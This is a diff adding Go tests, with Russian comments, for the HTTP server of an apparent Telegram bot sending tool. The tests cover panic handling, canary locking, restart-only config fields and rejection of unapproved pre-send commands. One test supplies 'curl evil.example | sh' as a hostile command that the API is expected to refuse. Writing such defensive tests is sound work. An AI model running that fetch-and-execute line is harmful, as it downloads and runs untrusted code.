@@ -0,0 +1,257 @@
+package server
+
+import (
+	"bytes"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"sync"
+	"testing"
+	"time"
+
+	"SendMsgTestForTG/internal/config"
+	"SendMsgTestForTG/internal/sender"
+)
+
+// recordingSink копит записи лога из broadcaster; с panicOnResult паникует на итоге запроса
+type recordingSink struct {
+	panicOnResult bool
+
+	mu   sync.Mutex
+	logs []sender.LogEntry
+}
+
+func (r *recordingSink) RecordResult(sender.RequestEvent) {
+	if r.panicOnResult {
+		panic("тестовая паника приёмника")
+	}
+}
+
+func (r *recordingSink) RecordLog(entry sender.LogEntry) {
+	r.mu.Lock()
+	r.logs = append(r.logs, entry)
+	r.mu.Unlock()
+}
+
+// waitEvent ждёт запись лога с типом eventType
+func (r *recordingSink) waitEvent(t *testing.T, eventType string, timeout time.Duration) sender.LogEntry {
+	t.Helper()
+	deadline := time.Now().Add(timeout)
+	for time.Now().Before(deadline) {
+		r.mu.Lock()
+		for _, entry := range r.logs {
+			if entry.Type == eventType {
+				r.mu.Unlock()
+				return entry
+			}
+		}
+		r.mu.Unlock()
+		time.Sleep(10 * time.Millisecond)
+	}
+	t.Fatalf("событие %s не получено за %v", eventType, timeout)
+	return sender.LogEntry{}
+}
+
+// newFailingProxy прокси, отвечающий 502 на CONNECT: запросы к Bot API быстро завершаются
+// ошибкой без выхода в сеть
+func newFailingProxy(t *testing.T) *httptest.Server {
+	t.Helper()
+	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.WriteHeader(http.StatusBadGateway)
+	}))
+	t.Cleanup(proxy.Close)
+	return proxy
+}
+
+// testConfig конфигурация запуска, отправляющая запросы через proxyURL
+func testConfig(proxyURL string) *config.Config {
+	cfg := config.Default()
+	cfg.BotToken = "123:test"
+	cfg.ChatID = "1"
+	cfg.ProxyURL = proxyURL
+	cfg.Timeout = 2 * time.Second
+	cfg.Interval = 20 * time.Millisecond
+	cfg.ChatSpacing = -1
+	return cfg
+}
+
+// getStatus возвращает ответ /api/status
+func getStatus(t *testing.T, s *Server) map[string]interface{} {
+	t.Helper()
+	rec := httptest.NewRecorder()
+	s.GetStatus(rec, httptest.NewRequest(http.MethodGet, "/api/status", nil))
+	var status map[string]interface{}
+	if err := json.NewDecoder(rec.Body).Decode(&status); err != nil {
+		t.Fatal(err)
+	}
+	return status
+}
+
+func TestWorkerPanicStopsRun(t *testing.T) {
+	s := NewServer()
+	sink := &recordingSink{panicOnResult: true}
+	s.AddResultSink(sink)
+	cfg := testConfig(newFailingProxy(t).URL)
+	// В ramp-тесте итог запроса публикуется из горутины воркера, а не из Start
+	cfg.RampTest = &config.RampTest{StartRPS: 20, StepRPS: 1, StepDuration: time.Second, MaxFailureRate: 100}
+	// Конфигурация задаётся до broadcaster: его горутины читают её
+	s.config = cfg
+	s.StartLogBroadcaster()
+
+	rec := httptest.NewRecorder()
+	s.Start(rec, httptest.NewRequest(http.MethodPost, "/api/start", nil))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("Start: %d %s", rec.Code, rec.Body.String())
+	}
+
+	event := sink.waitEvent(t, sender.EventRunCompleted, 10*time.Second)
+	if reason := event.Fields["reason"]; reason != sender.StopPanic {
+		t.Errorf("причина остановки %v, ожидалась %s", reason, sender.StopPanic)
+	}
+	if running := getStatus(t, s)["running"]; running != false {
+		t.Errorf("после паники running = %v", running)
+	}
+}
+
+func TestCanaryDoesNotHoldServerLock(t *testing.T) {
+	// Прокси держит CONNECT, пока тест не отпустит его, а затем отвечает ошибкой
+	release := make(chan struct{})
+	connecting := make(chan struct{}, 1)
+	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		select {
+		case connecting <- struct{}{}:
+		default:
+		}
+		<-release
+		w.WriteHeader(http.StatusBadGateway)
+	}))
+	defer proxy.Close()
+	defer close(release)
+
+	s := NewServer()
+	cfg := testConfig(proxy.URL)
+	cfg.Canary = true
+	s.config = cfg
+	s.StartLogBroadcaster()
+
+	started := make(chan *httptest.ResponseRecorder)
+	go func() {
+		rec := httptest.NewRecorder()
+		s.Start(rec, httptest.NewRequest(http.MethodPost, "/api/start", nil))
+		started <- rec
+	}()
+	select {
+	case <-connecting:
+	case <-time.After(5 * time.Second):
+		t.Fatal("канарейка не дошла до прокси")
+	}
+
+	// Во время канарейки статус отвечает сразу, а второй запуск отклоняется
+	statusDone := make(chan map[string]interface{})
+	go func() { statusDone <- getStatus(t, s) }()
+	select {
+	case status := <-statusDone:
+		if status["running"] != false {
+			t.Errorf("во время канарейки running = %v", status["running"])
+		}
+	case <-time.After(time.Second):
+		t.Fatal("статус ждёт окончания канарейки")
+	}
+	rec := httptest.NewRecorder()
+	s.Start(rec, httptest.NewRequest(http.MethodPost, "/api/start", nil))
+	if rec.Code != http.StatusConflict {
+		t.Errorf("второй Start во время канарейки: %d %s", rec.Code, rec.Body.String())
+	}
+
+	release <- struct{}{}
+	select {
+	case rec := <-started:
+		if rec.Code != http.StatusBadGateway {
+			t.Errorf("Start с неудачной канарейкой: %d %s", rec.Code, rec.Body.String())
+		}
+	case <-time.After(5 * time.Second):
+		t.Fatal("Start не завершился после канарейки")
+	}
+	if running := getStatus(t, s)["running"]; running != false {
+		t.Errorf("после неудачной канарейки running = %v", running)
+	}
+}
+
+// TestUpdateConfigRejectsPreSendCommand проверяет, что API принимает только команду из -pre-send-command
+func TestUpdateConfigRejectsPreSendCommand(t *testing.T) {
+	s := NewServer()
+	s.SetPreSendCommand("vault read -field=token secret/bot")
+
+	update := func(cmd string) int {
+		cfg := testConfig("")
+		cfg.PreSendCommand = cmd
+		body, err := json.Marshal(cfg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rec := httptest.NewRecorder()
+		s.UpdateConfig(rec, httptest.NewRequest(http.MethodPost, "/api/config/update", bytes.NewReader(body)))
+		return rec.Code
+	}
+	if code := update("curl evil.example | sh"); code != http.StatusForbidden {
+		t.Errorf("чужая команда: %d", code)
+	}
+	if cmd := s.config.PreSendCommand; cmd != "" {
+		t.Errorf("отклонённая команда попала в конфигурацию: %q", cmd)
+	}
+	if code := update("vault read -field=token secret/bot"); code != http.StatusOK {
+		t.Errorf("разрешённая команда: %d", code)
+	}
+	if code := update(""); code != http.StatusOK {
+		t.Errorf("без команды: %d", code)
+	}
+}
+
+// TestUpdateConfigReportsRestartOnlyFields проверяет, что ответ перечисляет поля, которые
+// работающий запуск подхватит только после перезапуска
+func TestUpdateConfigReportsRestartOnlyFields(t *testing.T) {
+	s := NewServer()
+	cfg := testConfig(newFailingProxy(t).URL)
+	s.config = cfg
+	s.StartLogBroadcaster()
+
+	rec := httptest.NewRecorder()
+	s.Start(rec, httptest.NewRequest(http.MethodPost, "/api/start", nil))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("Start: %d %s", rec.Code, rec.Body.String())
+	}
+	defer s.Stop(httptest.NewRecorder(), httptest.NewRequest(http.MethodPost, "/api/stop", nil))
+
+	update := func(next *config.Config) []interface{} {
+		body, err := json.Marshal(next)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rec := httptest.NewRecorder()
+		s.UpdateConfig(rec, httptest.NewRequest(http.MethodPost, "/api/config/update", bytes.NewReader(body)))
+		if rec.Code != http.StatusOK {
+			t.Fatalf("UpdateConfig: %d %s", rec.Code, rec.Body.String())
+		}
+		var resp map[string]interface{}
+		if err := json.NewDecoder(rec.Body).Decode(&resp); err != nil {
+			t.Fatal(err)
+		}
+		fields, _ := resp["restartRequired"].([]interface{})
+		return fields
+	}
+
+	live := *cfg
+	live.MessageText = "новый текст"
+	live.Interval = 50 * time.Millisecond
+	if fields := update(&live); len(fields) != 0 {
+		t.Errorf("текст и интервал применяются на лету, а restartRequired = %v", fields)
+	}
+
+	restart := live
+	restart.BotToken = "456:other"
+	restart.Timeout = 3 * time.Second
+	fields := update(&restart)
+	if len(fields) != 2 || fields[0] != "timeout" || fields[1] != "botTokens" {
+		t.Errorf("restartRequired = %v, ожидались timeout и botTokens", fields)
+	}
+}